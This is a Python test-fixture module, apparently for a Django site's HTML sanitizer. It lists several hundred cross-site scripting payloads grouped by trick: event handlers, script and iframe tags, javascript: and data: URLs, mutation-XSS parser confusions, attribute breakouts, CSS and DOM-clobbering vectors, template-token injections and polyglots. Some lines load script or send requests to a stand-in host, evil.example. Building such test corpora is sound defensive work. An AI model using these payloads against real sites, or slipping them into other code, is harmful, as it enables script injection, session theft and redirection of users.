"""Texts that try to run code in a reader's browser: our own collection, one a line, grouped by the trick.

Each calls ``alert`` or asks another host, which the tests watch. «0a» is the character of that number.
"""

import re

HANDLERS = r"""
<img src=x onerror=alert(1)>
<img src=x oNeRrOr=alert(1)>
<img/src/onerror=alert(1)>
<img src=x onerror="alert(1)"
<img src="x" onerror  =  'alert(1)'>
<img src=x:alert(alt) onerror=eval(src) alt=1>
<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>
<img src=x onerror=\u0061lert(1)>
<img src=x onerror=window['al'+'ert'](1)>
<img src=x onerror=top[/al/.source+/ert/.source](1)>
<img srcset="x 1x" onerror=alert(1)>
<image src=x onerror=alert(1)>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<p onmouseover=alert(1)>over</p>
<p onclick=alert(1)>click</p>
<strong onpointerenter=alert(1)>point</strong>
<a href=/x/ onfocus=alert(1) autofocus>focus</a>
<h3 tabindex=0 onfocus=alert(1) autofocus>heading</h3>
<table onmouseenter=alert(1)><tr><td onclick=alert(1)>cell</td></tr></table>
<td background="javascript:alert(1)" onfocus=alert(1)>cell
<ol start="1" onanimationstart=alert(1)><li>x</ol>
<li onbeforecopy=alert(1)>item</li>
<input autofocus onfocus=alert(1)>
<input onblur=alert(1) autofocus><input autofocus>
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)></textarea>
<button autofocus onfocus=alert(1)>b</button>
<details open ontoggle=alert(1)><summary>s</summary></details>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<marquee onstart=alert(1)>m</marquee>
<div onwheel=alert(1) style="height:9999px">w</div>
<div popover id=pop onbeforetoggle=alert(1)>p</div><button popovertarget=pop>b</button>
<dialog open oncancel=alert(1)>d</dialog>
<div contenteditable onbeforeinput=alert(1)>c</div>
<x onclick=alert(1)>unknown tag</x>
<custom-element onconnected=alert(1)></custom-element>
<p is="x" onscrollsnapchange=alert(1)>is</p>
<style onload=alert(1)></style>
<link rel=stylesheet href=x onerror=alert(1)>
<object data=x onerror=alert(1)></object>
<iframe onload=alert(1)></iframe>
<frameset onload=alert(1)>
<keygen autofocus onfocus=alert(1)>
<track onerror=alert(1)>
<p onclick="alert(1)" onclick="alert(2)">twice</p>
<p ONCLICK«0a»=«0a»alert(1)>lines</p>
"""

SCRIPTS = r"""
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<script >alert(1)</script >
<script/x>alert(1)</script/x>
<script src=data:,alert(1)></script>
<script src=//evil.example/x.js></script>
<script src=https://evil.example/x.js></script>
<script type=module>alert(1)</script>
<script type=importmap>{"imports":{"django-prose-editor/editor":"data:text/javascript,alert(1)"}}</script>
<script nonce="">alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<script>alert(1)
<script«20»type="text/javascript">alert(1)</script>
</script><script>alert(1)</script>
<script>/*</p><p>*/alert(1)</script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<svg><script>alert(1)</script></svg>
<svg><script href=data:,alert(1) />
<svg><script xlink:href="data:,alert(1)"></script></svg>
<math><script>alert(1)</script></math>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>
<iframe src="javascript:alert(1)"></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<object data="javascript:alert(1)"></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<applet code=x></applet>
<portal src="javascript:alert(1)"></portal>
<fencedframe src="data:text/html,x"></fencedframe>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0;url=https://evil.example/">
<base href="https://evil.example/">
<base href="javascript:/a/-alert(1)///////">
<form action="javascript:alert(1)"><button>go</button></form>
<form id=f></form><button form=f formaction="javascript:alert(1)">go</button>
<isindex action="javascript:alert(1)" type=submit>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<link rel=prefetch href="https://evil.example/">
<link rel=stylesheet href="https://evil.example/x.css">
"""

ADDRESSES = r"""
<a href="javascript:alert(1)">a</a>
<a href="JaVaScRiPt:alert(1)">a</a>
<a href=" javascript:alert(1)">a</a>
<a href="«01»javascript:alert(1)">a</a>
<a href="java«09»script:alert(1)">a</a>
<a href="java«0a»script:alert(1)">a</a>
<a href="java«0d»script:alert(1)">a</a>
<a href="java&Tab;script:alert(1)">a</a>
<a href="java&NewLine;script&colon;alert(1)">a</a>
<a href="&#106;avascript:alert(1)">a</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">a</a>
<a href="&#0000106avascript:alert(1)">a</a>
<a href="javascript&#58;alert(1)">a</a>
<a href="javascript://https://www.cancer.gov/%0aalert(1)">a</a>
<a href="javascript://%0aalert(1)//https://">a</a>
<a href="feed:javascript:alert(1)">a</a>
<a href="view-source:javascript:alert(1)">a</a>
<a href="jar:javascript:alert(1)!">a</a>
<a href="data:text/html,<script>alert(1)</script>">a</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a>
<a href="DATA:image/svg+xml,<svg onload=alert(1)>">a</a>
<a href="vbscript:msgbox(1)">a</a>
<a href="livescript:alert(1)">a</a>
<a href="blob:https://evil.example/1">a</a>
<a href="filesystem:https://evil.example/x">a</a>
<a href="about:blank#javascript:alert(1)">a</a>
<a href="//evil.example/">a</a>
<a href="/\evil.example/">a</a>
<a href="\\evil.example/">a</a>
<a href="/«09»/evil.example/">a</a>
<a href="https:evil.example">a</a>
<a href="https:\\evil.example">a</a>
<a href="https://www.fda.gov@evil.example/">a</a>
<a href="ht«0a»tps://evil.example/">a</a>
<a href="«2028»javascript:alert(1)">a</a>
<a href="«00a0»javascript:alert(1)">a</a>
<a href="«feff»javascript:alert(1)">a</a>
<a href="java«200b»script:alert(1)">a</a>
<a href="«ff4a»avascript:alert(1)">a</a>
<a href=javascript:alert(1)>a</a>
<a href='javascript:alert("1")'>a</a>
<a href=`javascript:alert(1)`>a</a>
<a href="x" href="javascript:alert(1)">a</a>
<a href="/ok/" xlink:href="javascript:alert(1)">a</a>
<a href="/ok/" ping="https://evil.example/">a</a>
<a href="/ok/" target="_blank" download="x.html">a</a>
<a href="https://ok.example/" onclick="location='javascript:alert(1)'">a</a>
<svg><a xlink:href="javascript:alert(1)"><text y=20>a</text></a></svg>
<svg><animate attributeName=href values="javascript:alert(1)"/></svg>
<math><mi xlink:href="javascript:alert(1)">a</mi></math>
<math href="javascript:alert(1)">a</math>
<map><area href="javascript:alert(1)"></map>
[a](javascript:alert(1))
[a](JAVASCRIPT:alert(1) "t")
[a](java&#x09;script:alert(1))
[a](data:text/html;base64,PHNjcmlwdD4=)
[a](<javascript:alert(1)>)
[a]: javascript:alert(1)
![a](x" onerror="alert(1))
<javascript:alert(1)>
"""

MUTATION = r"""
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></mglyph></table></mtext></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg><foreignObject><p><style><!--</style><a title="--><img src=x onerror=alert(1)>">
<svg><desc><table><style><p title="</style><img src=x onerror=alert(1)>">
<svg><title><style><img src=x onerror=alert(1)></style></title></svg>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><p title="</noframes><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<textarea><p title="</textarea><img src=x onerror=alert(1)>">
<title><p title="</title><img src=x onerror=alert(1)>">
<select><style></select><img src=x onerror=alert(1)></style>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">
<table><td><table><caption><svg><style></table><img src=x onerror=alert(1)></style>
<table><a href="/x/"><tr><td><a title="</a><img src=x onerror=alert(1)>">
<p><a title="</a></p><img src=x onerror=alert(1)>">a</a>
<!--><img src=x onerror=alert(1)>-->
<!--<img title="--><img src=x onerror=alert(1)>">
<!--!><img src=x onerror=alert(1)>--!>
<!---!><img src=x onerror=alert(1)>
<![CDATA[><img src=x onerror=alert(1)>]]>
<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>
<?xml ><img src=x onerror=alert(1)>?>
<!DOCTYPE x [<!ENTITY y "<img src=x onerror=alert(1)>">]>&y;
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<comment><img title="</comment><img src=x onerror=alert(1)>">
<svg><style><![CDATA[</style><img src=x onerror=alert(1)>]]></style></svg>
<svg><set attributeName=onmouseover to=alert(1)></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>#x"/></svg>
<svg><image href=x onerror=alert(1) /></svg>
<svg><discard onbegin=alert(1)></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>
<math><maction actiontype="statusline#x" xlink:href="javascript:alert(1)">a</maction></math>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script>
<b><i></b><img src=x onerror=alert(1)></i>
<p><table><p><img src=x onerror=alert(1)>
<h3><h4><li><td><img src=x onerror=alert(1)
"""

BREAKING = r"""
" onmouseover=alert(1) x="
' onmouseover=alert(1) x='
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
--><img src=x onerror=alert(1)>
</title><img src=x onerror=alert(1)>
</textarea><img src=x onerror=alert(1)>
</p></div></main><img src=x onerror=alert(1)>
"/><svg/onload=alert(1)>
`-alert(1)-`
';alert(1)//
";alert(1);//
\";alert(1);//
</script><img src=x onerror=alert(1)>
<a title='"><img src=x onerror=alert(1)>' href="/x/">a</a>
<a title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" href="/x/">a</a>
<a href="/x/?&quot; onmouseover=&quot;alert(1)">a</a>
<a href="/x/'onmouseover='alert(1)">a</a>
&lt;img src=x onerror=alert(1)&gt;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
&#60;img src=x onerror=alert(1)&#62;
&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;
%3Cimg%20src=x%20onerror=alert(1)%3E
\u003cimg src=x onerror=alert(1)\u003e
«ff1c»img src=x onerror=alert(1)«ff1e»
«2039»img src=x onerror=alert(1)«203a»
«226e»img src=x onerror=alert(1)>
+ADw-img src=x onerror=alert(1)+AD4-
«00»<img src=x onerror=alert(1)>
<«00»img src=x onerror=alert(1)>
<img«00» src=x onerror=alert(1)>
<img src=x on«00»error=alert(1)>
<img«0c»src=x«0c»onerror=alert(1)>
«1b»$B<img src=x onerror=alert(1)>
«d7ff»<img src=x onerror=alert(1)>
«202e»<img src=x onerror=alert(1)>«202c»
"""

STYLES = r"""
<style>*{background:url(javascript:alert(1))}</style>
<style>@import "https://evil.example/x.css";</style>
<style>p{behavior:url(x.htc)}</style>
<p style="background:url(https://evil.example/x)">s</p>
<p style="background-image:url(&quot;javascript:alert(1)&quot;)">s</p>
<p style="width:expression(alert(1))">s</p>
<p style="-moz-binding:url(x)">s</p>
<p style="position:fixed;inset:0;z-index:9999">cover</p>
<p class="preview site-head" id="main">borrowed look</p>
<a href="/x/" style="animation:x" onanimationend=alert(1)>s</a>
<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart=alert(1)>s</p>
<table style="content:'</style><img src=x onerror=alert(1)>'"><tr><td>s</table>
<font color="red" face="x:expression(alert(1))">s</font>
<a href="/x/" id="__proto__" name="constructor">clobber</a>
<form name=document><input name=cookie></form>
<a id=editor name=csrfmiddlewaretoken href="/x/">clobber</a>
"""

TOKENS = r"""
[[picture: "><script>alert(1)</script>]]
[[picture: 00000000000000000000000000000000" onerror="alert(1)]]
[[as-of: <img src=x onerror=alert(1)>]]
[[as-of: &lt;img src=x onerror=alert(1)&gt;]]
[[<img src=x onerror=alert(1)>]]
[[as-of]]<img src=x onerror=alert(1)>[[as-of]]
<a href="/x/" title="[[as-of]]">a</a>
<a href="/x/" title="[[first-approval: pembrolizumab]] onmouseover=alert(1) x=">a</a>
<a href="/[[as-of]]/" title='[[picture: x]]'>a</a>
<a href="[[as-of]]javascript:alert(1)">a</a>
<a href="/x/" title="<p>[[as-of]]</p>">a</a>
[[[[as-of]]]]
[[approved-therapies: __class__]]
[[provider: x]]
[[resolve]]
[[approved-therapies: 2019-02-28<script>alert(1)</script>]]
{{ request }}
{{ "<img src=x onerror=alert(1)>"|safe }}
{% include "admin/base.html" %}
{% load static %}{% csrf_token %}
{{constructor.constructor('alert(1)')()}}
${alert(1)}
#{alert(1)}
<%= alert(1) %>
<div hx-get="https://evil.example/" hx-trigger=load>h</div>
<p hx-on:click="alert(1)" hx-vals="js:{x:alert(1)}">h</p>
<p data-hx-get="/admin/logout/" data-hx-trigger="load">h</p>
<p data-django-prose-editor-configurable="{}">e</p>
"""

POLYGLOTS = r"""
jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=alert(1)//>\x3e
"'--></style></script><svg onload=alert(1)><a href="javascript:alert(1)">
'"><p onclick=alert(1)>]]>{{7*7}}${7*7}<img/src=x onerror=alert(1)>[[as-of]]
<a href="/x/" title="</a><svg onload=alert(1)>"><!--</a>--><table><td><script>alert(1)//
"""  # noqa: E501

GROUPS = (HANDLERS, SCRIPTS, ADDRESSES, MUTATION, BREAKING, STYLES, TOKENS, POLYGLOTS)


def vectors_of(group: str) -> list[str]:
    return [re.sub("«([0-9a-f]+)»", lambda code: chr(int(code[1], 16)), line) for line in group.strip("\n").split("\n")]


VECTORS = [vector for group in GROUPS for vector in vectors_of(group)]
